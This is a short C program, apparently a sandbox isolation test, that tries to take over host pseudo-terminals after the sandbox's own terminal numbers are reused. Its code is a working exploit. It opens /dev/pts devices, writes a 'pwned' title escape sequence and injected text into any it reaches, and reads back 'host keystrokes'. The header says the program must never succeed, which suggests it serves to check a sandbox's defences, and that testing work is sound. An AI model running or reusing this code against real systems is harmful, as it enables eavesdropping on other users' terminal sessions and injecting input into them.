/* attack_terminal: the number of a closed pseudo-terminal comes to mean a terminal of the host.
 *
 * Opens terminals and closes them, waits three seconds, in which the host opens terminals of its own, then opens
 * /dev/pts/0..63 again. Must never say OPENED. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/ioctl.h>
int main(){int ms[16];int n;for(int i=0;i<8;i++){ms[i]=open("/dev/ptmx",O_RDWR|O_NOCTTY);ioctl(ms[i],TIOCGPTN,&n);printf("mine %d\n",n);}for(int i=0;i<8;i++)close(ms[i]);fflush(stdout);
 sleep(3); char p[64]; for(int i=0;i<64;i++){sprintf(p,"/dev/pts/%d",i);int fd=open(p,O_RDWR|O_NOCTTY|O_NONBLOCK);if(fd>=0){printf("OPENED %s\n",p);dprintf(fd,"\033]0;pwned\007hello from sandbox\n");char b[100];sleep(1);int r=read(fd,b,99);if(r>0){b[r]=0;printf("READ host keystrokes: %s\n",b);}}}
 return 0;}
